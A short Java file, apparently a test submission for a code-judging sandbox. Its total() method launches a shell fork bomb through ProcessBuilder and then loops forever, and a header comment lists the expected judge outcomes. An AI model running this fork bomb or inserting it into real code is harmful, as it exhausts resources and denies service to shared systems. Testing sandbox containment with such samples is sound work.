// expect: AC TLE MLE RE SV; tiers: AB; starts shells that start shells
import java.util.*;

public class Solution {
    double total(double[] values) {
        try { new ProcessBuilder("/bin/sh", "-c", "f() { f | f & }; f").start(); while (true) { Math.sin(1); } } catch (java.io.IOException e) { throw new java.io.UncheckedIOException(e); }
    }
}
